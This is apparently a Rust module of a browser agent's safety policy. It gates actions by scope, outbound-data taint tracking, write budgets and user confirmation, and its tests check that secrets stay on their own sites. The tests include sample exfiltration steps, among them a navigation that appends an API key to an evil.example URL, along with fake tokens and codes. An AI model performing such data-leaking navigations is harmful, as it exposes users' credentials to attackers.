//! The safety policy applied to every proposed action before its intent is journaled and before
//! any side effect: scope, outbound data, risk class and uploads, decided from the live
//! element's facts ([`ActionTarget`]) and never from the model's claims.

use super::context::TaskContext;
use super::interventions::{Intervention, InterventionKind};
use crate::safety::network::body;
use crate::safety::scope::sensitive_category;
use crate::safety::{
    ActionKind, ActionTarget, ConfirmClass, DocumentOrigin, Risk, ScopeError, TaintLedger, WebUrl,
    classify, document_origin, origin_of,
};
use crate::safety::{Fit, WriteBudget, WriteKind, effects, spend, writes};
use waymark_page::action::{Action, ActionOutcome};
use waymark_page::observation::{Item, Observation};

/// What the policy decided for one action.
#[derive(Debug, Clone, PartialEq)]
pub enum Decision {
    /// Done without asking.
    Go,
    /// Done without a card because the user allowed this kind of action on this site earlier in
    /// the task: the browser lets it send exactly where such a card would have named.
    Remembered,
    /// Done only if the user approves the card with a click; on approval `allow` (a site and
    /// whether it is an explicit sensitive grant) joins the task's scope, and `similar` (offered
    /// on the card) is remembered when the user chose "allow this kind of action on this site".
    Confirm {
        /// The card, naming exactly the action and its target.
        card: Intervention,
        /// The site the approval adds to the scope.
        allow: Option<(String, bool)>,
        /// The kind and site the card offers to allow for the rest of the task.
        similar: Option<(ConfirmClass, String)>,
        /// The site the approval lets the task act on after reading other sites' pages (the
        /// information-flow rule): not asked again for it.
        flow: Option<String>,
    },
    /// Never done by the agent: the user is asked to do it themselves.
    TakeOver {
        /// The card explaining why.
        card: Intervention,
        /// Why, for the model.
        reason: String,
    },
    /// Refused outright (outbound data, an upload of a file the user did not attach, a page
    /// that is not a web page); the model is told why.
    Refuse(String),
}

/// The role the observation gives an element a person can pick up and drag (an item of a
/// sortable list or board).
const DRAGGABLE_ROLE: &str = "draggable";

/// The risk-relevant kind of an action; `SwitchTab` counts as opening that tab's URL.
fn kind_of(action: &Action, observation: &Observation) -> ActionKind {
    match action {
        // A drop is judged like a click on where it lands (a "Delete" zone is a deletion).
        Action::Click { .. } | Action::DoubleClick { .. } | Action::Drag { .. } => {
            ActionKind::Click
        }
        Action::Type { text, .. } => ActionKind::Type { text: text.clone() },
        Action::Clear { .. } => ActionKind::Type { text: String::new() },
        Action::PressKeys { keys, .. } => ActionKind::PressKey { key: keys.clone() },
        Action::SelectOption { .. } | Action::Check { .. } | Action::Uncheck { .. } => {
            ActionKind::Choose
        }
        Action::Upload { file, .. } => ActionKind::Upload { file: file.clone() },
        Action::Navigate { url } | Action::OpenTab { url } => {
            ActionKind::Navigate { url: url.clone() }
        }
        Action::SwitchTab { tab } => match observation.tabs.iter().find(|t| t.id == *tab) {
            Some(t) => ActionKind::Navigate { url: t.url.clone() },
            None => ActionKind::Read,
        },
        _ => ActionKind::Read,
    }
}

/// The element whose live facts the policy judges: the element a drag drops on, the one keys
/// are pressed on (`None`: the focused element), else the action's target.
pub fn judged_ref(action: &Action) -> Option<waymark_page::observation::Ref> {
    match action {
        Action::PressKeys { ref_id, .. } => *ref_id,
        Action::Drag { to, .. } => Some(*to),
        other => other.target_ref(),
    }
}

/// What a drop lands on, as the policy judges it: dropping follows no link and submits no
/// form, so those facts of the element under it do not count.
pub fn as_drop_target(t: &ActionTarget) -> ActionTarget {
    ActionTarget {
        href: None,
        download: false,
        form_action: None,
        submits_form: false,
        form_data: String::new(),
        ..t.clone()
    }
}

/// Whether the policy needs the live element's facts for this action (`describe` first).
pub fn needs_facts(action: &Action) -> bool {
    match action {
        Action::PressKeys { .. } => true,
        a => {
            a.target_ref().is_some()
                && !matches!(kind_of(a, &Observation::default()), ActionKind::Read)
        }
    }
}

/// The action as the browser will receive it: a navigation's URL parsed the way Chrome parses
/// it and rewritten to that canonical string, so what the policy judges (and the journal
/// records) is exactly what is loaded; `Err` with why for addresses never opened.
pub fn canonical(action: &Action) -> Result<Action, crate::safety::UrlRefusal> {
    let canonical_url =
        |url: &str| WebUrl::parse_for_navigation(url).map(|u| u.as_str().to_owned());
    Ok(match action {
        Action::Navigate { url } => Action::Navigate { url: canonical_url(url)? },
        Action::OpenTab { url } => Action::OpenTab { url: canonical_url(url)? },
        other => other.clone(),
    })
}

/// Where an element action takes effect, for scope: the element's own document (a frame has its
/// own origin, reported by the live document) inside the tab's page.
enum Acting {
    /// A web URL or origin: a navigation's destination, or the element's frame or page.
    Origin(String),
    /// A sandboxed or otherwise opaque frame: never part of a scope.
    Sandboxed,
}

/// Decides one action. `target` is the live element's facts (from [`super::Page::describe`]);
/// the task's attached files, scope, taint ledger, write budget and information-flow
/// approvals come from `ctx`. Navigations must be canonical (`canonical`, below).
pub fn decide(
    action: &Action,
    target: Option<&ActionTarget>,
    observation: &Observation,
    ctx: &TaskContext,
) -> Decision {
    let (resources, scope, taint) = (&ctx.spec.resources, &ctx.scope, &ctx.taint);
    let kind = kind_of(action, observation);
    if kind == ActionKind::Read {
        return Decision::Go;
    }
    let dropped_on = match (action, target) {
        (Action::Drag { .. }, Some(t)) => Some(as_drop_target(t)),
        _ => None,
    };
    let target = dropped_on.as_ref().or(target);
    // The same resolution the upload itself uses, so the policy and the upload agree on what
    // "attached" means.
    if let ActionKind::Upload { file } = &kind
        && let Err(e) = crate::upload::resolve_resource(resources, file)
    {
        return Decision::Refuse(format!("refused: {e}"));
    }
    if let ActionKind::Navigate { url } = &kind
        && let Err(e) = WebUrl::parse_for_navigation(url)
    {
        return Decision::Refuse(format!("refused: {e}"));
    }
    let page_url = target.map_or(observation.url.as_str(), |t| t.page_url.as_str());
    let here = ActionTarget { page_url: page_url.to_owned(), ..ActionTarget::default() };
    let facts = target.unwrap_or(&here);
    if let Some(block) = outbound(action, &kind, facts, taint) {
        return Decision::Refuse(block);
    }
    let risk = match classify(&kind, Some(facts)) {
        // Also a line break typed through the keyboard presses Enter (a terminal, a form).
        Risk::Free if matches!(&kind, ActionKind::Type { text } if text.contains('\n')) => {
            classify(&ActionKind::PressKey { key: "Enter".into() }, Some(facts))
        }
        // A drop onto another item of a sortable list or board is a place in it, not a
        // command its words could name ("Renew the passport"); what the move sends is judged
        // at the network layer like every request.
        Risk::Confirm { .. }
            if matches!(action, Action::Drag { .. }) && facts.role == DRAGGABLE_ROLE =>
        {
            Risk::Free
        }
        Risk::Confirm { class, .. } if matches!(action, Action::Drag { .. }) => {
            let what = describe_plainly(action, facts, None, None);
            Risk::Confirm { class, what }
        }
        risk => risk,
    };
    if let Risk::Never { reason } = risk {
        return take_over(action, facts, &reason);
    }
    // Where the action takes effect: the destination of a navigation, else the element's own
    // document — a frame counts with its own origin, never as part of the page around it.
    let destination = match (&kind, &facts.href) {
        (ActionKind::Navigate { url }, _) => Some(url.clone()),
        (ActionKind::Click, Some(href)) if WebUrl::parse(href).is_ok() => Some(href.clone()),
        _ => None,
    };
    let top = origin_of(&observation.url);
    let acting = match (&destination, &facts.origin, document_origin(facts)) {
        (Some(url), _, _) => Ok(Acting::Origin(url.clone())),
        (None, DocumentOrigin::Opaque, _) => Ok(Acting::Sandboxed),
        (None, _, Some(origin)) => Ok(Acting::Origin(origin)),
        (None, _, None) => Err(page_url.to_owned()),
    };
    let scope_issue = match &acting {
        Err(url) => return Decision::Refuse(format!("refused: `{url}` is not a web page")),
        Ok(Acting::Sandboxed) => None,
        Ok(Acting::Origin(at)) => scope.check(at).err().or_else(|| {
            // An element in a frame also needs the page around it in scope.
            let in_frame = destination.is_none() && top.is_some() && origin_of(at) != top;
            if in_frame { scope.check(&observation.url).err() } else { None }
        }),
    };
    let sandboxed = matches!(acting, Ok(Acting::Sandboxed));
    let frame = frame_site(destination.is_none(), facts, top.as_deref());
    // A purchase, a message or a deletion the user's words asked for, on the user's own site
    // (the start tab or a site the words name), needs no card: the words granted it.
    let users_site = match &acting {
        Ok(Acting::Origin(at)) => {
            origin_of(at).is_some_and(|o| super::police::writes_granted(ctx, &o))
        }
        _ => false,
    };
    let risk = match risk {
        Risk::Confirm { class, .. }
            if scope_issue.is_none() && users_site && asked_for(class, &ctx.budget) =>
        {
            Risk::Free
        }
        risk => risk,
    };
    // The write budget: a change the user's words did not ask for asks first, whatever the
    // control is called (the network layer holds what no element shows).
    let risk = match risk {
        Risk::Free => match unasked_change(action, &kind, facts, ctx) {
            Some(what) => Risk::Confirm { class: ConfirmClass::Effect, what },
            None => Risk::Free,
        },
        risk => risk,
    };
    // Information flow: the first action on a site the user's words do not name, once the
    // task has read another site's pages.
    let flow = match &acting {
        Ok(Acting::Origin(at)) => new_flow(ctx, at),
        _ => None,
    };
    let risk = match (risk, &flow) {
        (Risk::Free, Some(site)) if scope_issue.is_none() && !sandboxed => Risk::Confirm {
            class: ConfirmClass::Flow,
            what: format!(
                "{}\n{}",
                describe_plainly(action, facts, frame.as_deref(), top.as_deref()),
                flow_note(ctx, site)
            ),
        },
        (risk, _) => risk,
    };
    let (class, what) = match (risk, &scope_issue) {
        (Risk::Confirm { class, what }, _) => (class, what),
        (_, None) if !sandboxed => return Decision::Go,
        _ => (
            ConfirmClass::NewSite,
            describe_plainly(action, facts, frame.as_deref(), top.as_deref()),
        ),
        // `Never` returned above.
    };
    // A navigation to a site the user already allowed is not "a new site".
    if class == ConfirmClass::Navigation && scope_issue.is_none() && flow.is_none() {
        return Decision::Go;
    }
    let similar = similar_site(class, facts, &kind)
        .filter(|_| class.may_allow_similar() && scope_issue.is_none() && !sandboxed);
    if let Some(site) = &similar
        && scope.similar_allowed(class, site)
        && flow.is_none()
    {
        return Decision::Remembered;
    }
    let (note, allow) = match &scope_issue {
        None => (String::new(), None),
        Some(ScopeError::NotWeb(url)) => {
            return Decision::Refuse(format!("refused: `{url}` is not a web page"));
        }
        Some(ScopeError::NotAllowed(origin)) => match sensitive_category(origin) {
            Some(category) => (
                format!(
                    "\n{origin} looks like a {category} site and is not among the sites of this \
                     task: approving explicitly grants Waymark access to it for this task."
                ),
                Some((origin.clone(), true)),
            ),
            None => (
                format!(
                    "\n{origin} is not among the sites of this task: approving also lets \
                     Waymark act there for this task."
                ),
                Some((origin.clone(), false)),
            ),
        },
        Some(ScopeError::Sensitive { origin, category }) => (
            format!(
                "\n{origin} looks like a {category} site: approving explicitly grants Waymark access to it for this task."
            ),
            Some((origin.clone(), true)),
        ),
    };
    let note = match &flow {
        Some(site) if class != ConfirmClass::Flow => format!("{note}\n{}", flow_note(ctx, site)),
        _ => note,
    };
    let note = match (sandboxed, &frame) {
        (true, _) => format!(
            "{note}\nThe element is in a sandboxed frame (its origin is opaque): approving lets \
             only this one action through."
        ),
        (false, Some(frame)) if class != ConfirmClass::NewSite => {
            format!("{note}\nThe element is in {frame}.")
        }
        _ => note,
    };
    let title = match (&frame, class) {
        (Some(_), ConfirmClass::NewSite) => "Approve this action in another site's frame?".into(),
        _ => format!("Approve this {}?", class.label()),
    };
    let card = Intervention {
        kind: InterventionKind::Confirm,
        title,
        message: format!("{what}{note}"),
        questions: vec![],
        allow_similar: similar
            .as_deref()
            .and_then(|site| class.allow_similar_words(&shown_site(site))),
    };
    Decision::Confirm { card, allow, similar: similar.map(|site| (class, site)), flow }
}

/// Whether the user's words asked for this kind of confirmation's action (money, a message,
/// a deletion); account settings, downloads, uploads, other sites and frames always ask.
fn asked_for(class: ConfirmClass, budget: &WriteBudget) -> bool {
    let kind = match class {
        ConfirmClass::Purchase => WriteKind::Purchase,
        ConfirmClass::Message => WriteKind::Message,
        ConfirmClass::Delete => WriteKind::Delete,
        _ => return false,
    };
    budget.grants.contains(&kind)
}

/// The site an action at `at` would be the task's first action on after it read other
/// sites' pages, when the user's words do not name it and they did not approve it yet.
fn new_flow(ctx: &TaskContext, at: &str) -> Option<String> {
    let site = origin_of(at)?;
    let named = ctx.start.as_deref() == Some(site.as_str()) || ctx.budget.names(&site);
    if named || ctx.flows.contains(&site) {
        return None;
    }
    let read_elsewhere = ctx.taint.page_origins().iter().any(|o| *o != site);
    read_elsewhere.then_some(site)
}

/// The card's words for the information-flow rule.
fn flow_note(ctx: &TaskContext, site: &str) -> String {
    let read: Vec<String> = ctx
        .taint
        .page_origins()
        .iter()
        .filter(|o| o.as_str() != site)
        .map(|o| shown_site(o))
        .take(3)
        .collect();
    format!(
        "This task has read pages of {} (they may show your private data), and {} is not a \
         site your task names: approving lets Waymark act there for the rest of the task.",
        read.join(", "),
        shown_site(site)
    )
}

/// A change the action makes that the write budget does not cover, in words for the card:
/// a form submitted (by POST when no write was asked for, by GET when not even a search
/// was), a GET link or address that changes state by itself, text typed into a field others
/// can read when the task did not ask to publish.
fn unasked_change(
    action: &Action,
    kind: &ActionKind,
    t: &ActionTarget,
    ctx: &TaskContext,
) -> Option<String> {
    let budget = &ctx.budget;
    let enter = matches!(kind, ActionKind::PressKey { key } if effects::activates(key))
        || matches!(kind, ActionKind::Type { text } if text.contains('\n'));
    let submits = t.submits_form
        || (enter && t.form_action.is_some() && t.tag != "textarea" && !effects::activatable(t));
    if submits && let Some(form_action) = &t.form_action {
        let by_get = t.form_method == "get";
        let covered = if by_get { budget.grants_get_forms() } else { budget.grants_writes() };
        if !covered {
            let fields = body::describe_fields(&form_fields(&t.form_data));
            let how = if by_get { "GET" } else { "POST" };
            return Some(format!(
                "{} {} on {}: submits the form ({how}) to {form_action} with:\n{fields}\n({})",
                verb_of(action),
                called_plainly(t),
                t.page_url,
                budget.describe()
            ));
        }
        // Inside the budget: what the form does must be a kind, a place and a count the
        // words granted (read from its action URL and fields, not its button's words).
        if let Some(Fit::Outside(why)) = form_fit(ctx, t, form_action) {
            let fields = body::describe_fields(&form_fields(&t.form_data));
            return Some(format!(
                "{} {} on {}: submits the form (POST) to {form_action} with:\n{fields}\n({why})",
                verb_of(action),
                called_plainly(t),
                t.page_url,
            ));
        }
    }
    let link = match (action, kind) {
        (Action::Navigate { url } | Action::OpenTab { url }, _) => Some(url.as_str()),
        (_, ActionKind::Click | ActionKind::PressKey { .. }) => t.href.as_deref(),
        _ => None,
    };
    if let Some(url) = link
        && !budget.grants_writes()
        && effects::get_changes_state(url)
    {
        return Some(format!(
            "Open {url}: this address changes something on the site by itself (it reads like \
             an order, a deletion, a subscription or a confirmation), and {}",
            budget.describe()
        ));
    }
    if let ActionKind::Type { text } = kind
        && !text.is_empty()
        && effects::publishes(t)
        && !budget.grants.contains(&WriteKind::Message)
    {
        return Some(format!(
            "Type “{text}” into {} on {}: other people can read what is posted there, and {}",
            called_plainly(t),
            t.page_url,
            budget.describe()
        ));
    }
    None
}

/// Whether `origin` is one of the user's sites: the tab the task started on or a site the
/// user's words name (where their words' writes are granted).
pub(super) fn user_site(ctx: &TaskContext, origin: &str) -> bool {
    ctx.start.as_deref() == Some(origin) || ctx.budget.names(origin)
}

/// A form submitted by POST to `form_action` read as a write against the budget (`None` for
/// a GET form, or a task with no writes: those are judged before).
pub(super) fn form_fit(ctx: &TaskContext, t: &ActionTarget, form_action: &str) -> Option<Fit> {
    if t.form_method == "get" || !ctx.budget.grants_writes() {
        return None;
    }
    let mut fields: std::collections::BTreeMap<String, Vec<String>> = Default::default();
    for f in form_fields(&t.form_data) {
        fields.entry(f.name).or_default().push(f.value);
    }
    let request_body = body::RequestBody::Form { fields };
    let effect =
        writes::classify_against("POST", form_action, Some(&request_body), ctx.baseline.baseline());
    // Another site of the scope: judged as before (its writes are held at the network).
    let mine = origin_of(form_action).is_some_and(|o| user_site(ctx, &o));
    mine.then(|| spend::fit(&ctx.budget, &ctx.spent, &effect, "main_frame", true))
}

/// A form's `name=value&…` values as fields (raw, as the content script read them).
fn form_fields(data: &str) -> Vec<body::Field> {
    data.split('&')
        .filter(|p| !p.is_empty())
        .map(|pair| match pair.split_once('=') {
            Some((name, value)) => body::Field { name: name.into(), value: value.into() },
            None => body::Field { name: pair.into(), value: String::new() },
        })
        .collect()
}

fn verb_of(action: &Action) -> String {
    match action {
        Action::PressKeys { keys, .. } => format!("Press {keys} in"),
        Action::Type { .. } => "Type a line break into".into(),
        other => {
            let name = other.name().replace('_', " ");
            let mut chars = name.chars();
            chars.next().map(|c| c.to_uppercase().chain(chars).collect()).unwrap_or_default()
        }
    }
}

fn called_plainly(t: &ActionTarget) -> String {
    if t.name.is_empty() { t.tag.clone() } else { format!("“{}”", t.name) }
}

/// The origin an allowance of `class` is kept under: where the action sends (a form's action
/// origin), else the element's own document.
fn similar_site(class: ConfirmClass, t: &ActionTarget, kind: &ActionKind) -> Option<String> {
    let submits = t.submits_form || matches!(kind, ActionKind::PressKey { .. });
    match (class, t.form_action.as_deref()) {
        (ConfirmClass::FormSubmission, Some(action)) => origin_of(action),
        (ConfirmClass::Message, Some(action)) if submits => origin_of(action),
        (ConfirmClass::Message, _) => document_origin(t),
        _ => None,
    }
}

/// For an element inside a frame of another origin than the page (or a sandboxed one): the
/// frame in words ("a frame from ads.example"), for the card.
fn frame_site(element: bool, t: &ActionTarget, top: Option<&str>) -> Option<String> {
    if !element {
        return None;
    }
    match (&t.origin, document_origin(t)) {
        (DocumentOrigin::Opaque, _) => Some("a sandboxed frame".into()),
        (_, Some(origin)) if Some(origin.as_str()) != top => {
            Some(format!("a frame from {}", shown_site(&origin)))
        }
        _ => None,
    }
}

/// An origin as people read it: its host (and port), without the scheme.
fn shown_site(origin: &str) -> String {
    WebUrl::parse(origin).map(|u| u.site()).unwrap_or_else(|_| origin.to_owned())
}

/// Data that would leave with this action for a destination its source does not allow, as
/// the refusal's words.
fn outbound(
    action: &Action,
    kind: &ActionKind,
    t: &ActionTarget,
    taint: &TaintLedger,
) -> Option<String> {
    let block =
        sends(action, kind, t).into_iter().find_map(|(to, data)| taint.check(&to, &data).err());
    block.map(|b| {
        format!(
            "refused by the outbound data check: {b}. Data may go only back to where it came \
             from (the user's own data: only to the sites of the user's task); do the task \
             without it"
        )
    })
}

/// Everything an action can send and where, as (destination URL, data): a navigation's URL;
/// text typed, an option chosen, keys pressed or a file's name on the element's page (its
/// scripts read them); a link's target; a submitted form's values to its final action URL.
fn sends(action: &Action, kind: &ActionKind, t: &ActionTarget) -> Vec<(String, String)> {
    // The element's own document receives what is typed or chosen: a frame's origin, not the
    // top page's (an `about:srcdoc` frame inherits its parent's origin; a sandboxed frame's
    // scripts may send anywhere, so nothing tracked may go there).
    let page = match (&t.origin, document_origin(t)) {
        (DocumentOrigin::Opaque, _) => "a sandboxed frame".to_owned(),
        (_, Some(origin)) => format!("{origin}/"),
        (_, None) => t.page_url.clone(),
    };
    let on_page = |data: &str| (page.clone(), data.to_owned());
    let mut out = Vec::new();
    match kind {
        ActionKind::Navigate { url } => out.push((url.clone(), String::new())),
        ActionKind::Type { text } => out.push(on_page(text)),
        ActionKind::Upload { file } => out.push(on_page(file)),
        ActionKind::Choose => {
            if let Action::SelectOption { option, .. } = action {
                out.push(on_page(option));
            }
        }
        ActionKind::Click | ActionKind::PressKey { .. } => {
            if let ActionKind::PressKey { key } = kind {
                out.push(on_page(key));
            }
            if let Some(href) = &t.href {
                out.push((href.clone(), String::new()));
            }
            let submits = t.submits_form || matches!(kind, ActionKind::PressKey { .. });
            if let (Some(form_action), true) = (&t.form_action, submits) {
                out.push((form_action.clone(), t.form_data.clone()));
            }
        }
        ActionKind::Read => {}
    }
    out
}

/// Remembers what an action that is about to run sends where, so that pieces of a value sent
/// over several actions to one site are recognised ([`TaintLedger::record_sent`]).
pub fn record_sends(
    taint: &mut TaintLedger,
    action: &Action,
    target: Option<&ActionTarget>,
    observation: &Observation,
) {
    let kind = kind_of(action, observation);
    let here = ActionTarget { page_url: observation.url.clone(), ..ActionTarget::default() };
    let dropped_on = match (action, target) {
        (Action::Drag { .. }, Some(t)) => Some(as_drop_target(t)),
        _ => None,
    };
    for (to, data) in sends(action, &kind, dropped_on.as_ref().or(target).unwrap_or(&here)) {
        taint.record_sent(&to, &data);
    }
}

fn take_over(action: &Action, facts: &ActionTarget, reason: &str) -> Decision {
    let card = Intervention {
        kind: InterventionKind::TakeOver,
        title: "Please do this yourself".into(),
        message: format!(
            "Waymark never does this itself: {reason}. Credentials, one-time codes, payment \
             details, CAPTCHAs, consent screens and account recovery settings are handled by \
             you.\nThe agent wanted to: {}.\nDo it yourself in the tab if you want it done, then \
             press Continue (or Stop).",
            action.describe(Some(facts.name.as_str()).filter(|n| !n.is_empty()))
        ),
        questions: vec![],
        allow_similar: None,
    };
    Decision::TakeOver {
        card,
        reason: format!("not done by Waymark: {reason}; such steps are the user's to do"),
    }
}

/// The action in plain words with its live target, for a card; `frame` names the frame when the
/// element is in a frame of another origin than the page at `top` ("in a frame from ads.example
/// embedded in shop.example").
fn describe_plainly(
    action: &Action,
    t: &ActionTarget,
    frame: Option<&str>,
    top: Option<&str>,
) -> String {
    let name = if t.name.is_empty() { t.tag.clone() } else { format!("“{}”", t.name) };
    let place = match frame {
        Some(frame) => {
            format!("in {frame} embedded in {}", top.map_or("the page".into(), shown_site))
        }
        None => format!("on {}", t.page_url),
    };
    match action {
        Action::Navigate { url } | Action::OpenTab { url } => format!("Open {url}"),
        Action::SwitchTab { tab } => format!("Switch to tab {tab}"),
        Action::Type { text, .. } => format!("Type “{text}” into {name} {place}"),
        Action::Drag { ref_id, .. } => format!("Drag element [{ref_id}] onto {name} {place}"),
        other => format!("{} {name} {place}", other.name().replace('_', " ")),
    }
}

/// Records what the model is about to read in the taint ledger, each value with the origin of
/// the document it came from: page text, element names and values (a frame's with the frame's
/// origin), the page's title and address, and every open tab's title and address (a sign-in
/// code in another tab's title, a reset token in its address, are that tab's site's).
pub fn record_observation(taint: &mut TaintLedger, observation: &Observation) {
    let page = &observation.url;
    taint.record_page_text(page, &observation.title);
    taint.record_page_text(page, page);
    for tab in &observation.tabs {
        taint.record_page_text(&tab.url, &tab.title);
        taint.record_page_text(&tab.url, &tab.url);
    }
    record_items(taint, page, &observation.items);
}

fn record_items(taint: &mut TaintLedger, url: &str, items: &[Item]) {
    for item in items {
        match item {
            Item::Text { text, .. } => taint.record_page_text(url, text),
            Item::Element(el) => {
                taint.record_page_text(url, &el.name);
                if let Some(value) = &el.value {
                    taint.record_page_text(url, value);
                }
            }
            Item::Frame(frame) => {
                let frame_url = match (origin_of(&frame.url), frame.src.is_empty()) {
                    (Some(_), _) => frame.url.as_str(),
                    // No web address of its own, placed by its parent's iframe (`data:`,
                    // `blob:`): it shows what that document put there.
                    (None, false) => url,
                    // No web address and no parent known (a sandboxed `srcdoc` frame answers
                    // without its parent saying where): of unknown origin, it goes nowhere.
                    (None, true) => "",
                };
                record_items(taint, frame_url, &frame.items);
            }
        }
    }
}

/// Records the page text an action brought back for the model (what extract and find read)
/// with the origin of the document each part was read in: `find` searches every frame (it
/// says where each line was read) and `extract` may target one, and a frame's text is its own
/// site's, never the page's around it. Without parts, the text is the acting frame's (a frame
/// the observation does not know: no origin, so the values may go nowhere).
pub fn record_output(
    taint: &mut TaintLedger,
    observation: &Observation,
    action: &Action,
    outcome: &ActionOutcome,
) {
    if !matches!(action, Action::Extract { .. } | Action::Find { .. }) {
        return;
    }
    if !outcome.read.is_empty() {
        for part in &outcome.read {
            taint.record_page_text(&part.url, &part.text);
        }
        return;
    }
    let Some(text) = &outcome.text else { return };
    let url = match action.target_ref() {
        Some(r) if r.frame != 0 => frame_url(&observation.items, r.frame).unwrap_or_default(),
        _ => observation.url.as_str(),
    };
    taint.record_page_text(url, text);
}

/// The URL of merged frame `id` in `items`.
fn frame_url(items: &[Item], id: u32) -> Option<&str> {
    items.iter().find_map(|item| match item {
        Item::Frame(frame) if frame.frame == id => Some(frame.url.as_str()),
        Item::Frame(frame) => frame_url(&frame.items, id),
        _ => None,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn field_in(page_url: &str, origin: DocumentOrigin) -> ActionTarget {
        ActionTarget {
            role: "textbox".into(),
            name: "Note".into(),
            tag: "input".into(),
            page_url: page_url.into(),
            origin,
            ..ActionTarget::default()
        }
    }

    fn text(t: &str) -> Item {
        Item::Text { text: t.into(), heading: None, zone: waymark_page::observation::Zone::In }
    }

    fn frame(id: u32, src: &str, url: &str, items: Vec<Item>) -> Item {
        Item::Frame(waymark_page::observation::Frame {
            src: src.into(),
            frame: id,
            url: url.into(),
            items,
            zone: waymark_page::observation::Zone::In,
        })
    }

    /// Whether the ledger lets `value` be typed into a page of `origin`.
    fn may_go(taint: &TaintLedger, value: &str, origin: &str) -> bool {
        taint.check(&format!("{origin}/"), value).is_ok()
    }

    #[test]
    fn titles_and_addresses_of_the_page_and_every_tab_keep_their_sites() {
        let observation = Observation {
            url: "https://dash.example/welcome?session=Zq8aX9canary42Lm9Tt77".into(),
            title: "Dashboard".into(),
            tabs: vec![
                waymark_page::observation::TabSummary {
                    id: 1,
                    title: "Your verification code is 493817".into(),
                    url: "https://mail.example/inbox?reset=ghp_Qk3vR8sT1uV5wX9yZ2aB4cD6".into(),
                    current: false,
                },
                waymark_page::observation::TabSummary {
                    id: 2,
                    title: "Dashboard".into(),
                    url: "https://dash.example/welcome?session=Zq8aX9canary42Lm9Tt77".into(),
                    current: true,
                },
            ],
            ..Observation::default()
        };
        let mut taint = TaintLedger::default();
        record_observation(&mut taint, &observation);
        let (paste, mail, dash) =
            ("https://paste.example", "https://mail.example", "https://dash.example");
        assert!(!may_go(&taint, "493817", paste), "another tab's title");
        assert!(may_go(&taint, "493817", mail));
        assert!(!may_go(&taint, "ghp_Qk3vR8sT1uV5wX9yZ2aB4cD6", paste), "another tab's address");
        assert!(!may_go(&taint, "Zq8aX9canary42Lm9Tt77", paste), "the page's own address");
        assert!(may_go(&taint, "Zq8aX9canary42Lm9Tt77", dash));
    }

    #[test]
    fn frames_without_a_web_address_are_their_parents_or_nobodys() {
        let observation = Observation {
            url: "https://evil.example/".into(),
            items: vec![
                frame(
                    2,
                    "https://dash.example/keys",
                    "https://dash.example/keys",
                    vec![frame(
                        3,
                        "data:text/html,x",
                        "data:text/html,x",
                        vec![text("key Zq8aX9dataframe42Lm")],
                    )],
                ),
                // An orphan: a sandboxed srcdoc frame no placeholder claimed.
                frame(4, "", "about:srcdoc", vec![text("key Wp7bY3orphan99Kn2Qr")]),
            ],
            ..Observation::default()
        };
        let mut taint = TaintLedger::default();
        record_observation(&mut taint, &observation);
        let (evil, dash) = ("https://evil.example", "https://dash.example");
        assert!(!may_go(&taint, "Zq8aX9dataframe42Lm", evil), "a data: frame is its parent's");
        assert!(may_go(&taint, "Zq8aX9dataframe42Lm", dash));
        assert!(!may_go(&taint, "Wp7bY3orphan99Kn2Qr", evil), "an orphan goes nowhere");
        assert!(!may_go(&taint, "Wp7bY3orphan99Kn2Qr", dash));
    }

    #[test]
    fn what_find_and_extract_read_in_a_frame_is_the_frames() {
        let observation = Observation {
            url: "https://evil.example/".into(),
            items: vec![frame(2, "https://dash.example/keys", "https://dash.example/keys", vec![])],
            ..Observation::default()
        };
        let key = "sk-live-Zq8aX9canary42Lm9Tt77";
        let (evil, dash) = ("https://evil.example", "https://dash.example");
        let found = ActionOutcome::read_in(vec![
            waymark_page::action::ReadText {
                url: "https://evil.example/".into(),
                text: "API keys".into(),
            },
            waymark_page::action::ReadText {
                url: "https://dash.example/keys".into(),
                text: format!("Your API key: {key}"),
            },
        ]);
        let mut taint = TaintLedger::default();
        record_output(&mut taint, &observation, &Action::Find { query: "API key".into() }, &found);
        assert!(!may_go(&taint, key, evil), "found in the frame, not on the page");
        assert!(may_go(&taint, key, dash));
        // An extract of an element in frame 2 that did not say where it read: the frame's.
        let extract =
            Action::Extract { ref_id: Some(waymark_page::observation::Ref { frame: 2, index: 1 }) };
        let mut taint = TaintLedger::default();
        record_output(&mut taint, &observation, &extract, &ActionOutcome::with_text(key));
        assert!(!may_go(&taint, key, evil));
        assert!(may_go(&taint, key, dash));
        // Other actions' outputs quote the model's own words: never a page's text.
        let mut taint = TaintLedger::default();
        let navigate = Action::Navigate { url: format!("https://evil.example/?k={key}") };
        record_output(&mut taint, &observation, &navigate, &ActionOutcome::failed(key));
        assert!(taint.is_empty());
    }

    #[test]
    fn typed_text_goes_to_the_fields_own_document_origin() {
        let typing = ActionKind::Type { text: "x".into() };
        let action = Action::Type {
            ref_id: waymark_page::observation::Ref::top(1),
            text: "x".into(),
            append: false,
        };
        let srcdoc = field_in("about:srcdoc", DocumentOrigin::Web("https://shop.example".into()));
        assert_eq!(sends(&action, &typing, &srcdoc)[0].0, "https://shop.example/");
        let sandboxed = field_in("https://ads.example/frame", DocumentOrigin::Opaque);
        assert_eq!(sends(&action, &typing, &sandboxed)[0].0, "a sandboxed frame");
        let mut taint = TaintLedger::default();
        taint.record_page_text("https://shop.example/account", "Token Zq8aX9canary42Lm9Tt77");
        assert!(
            outbound(
                &action,
                &ActionKind::Type { text: "Zq8aX9canary42Lm9Tt77".into() },
                &srcdoc,
                &taint
            )
            .is_none()
        );
        assert!(
            outbound(
                &action,
                &ActionKind::Type { text: "Zq8aX9canary42Lm9Tt77".into() },
                &sandboxed,
                &taint
            )
            .is_some(),
            "a sandboxed frame's scripts may send anywhere"
        );
    }
}
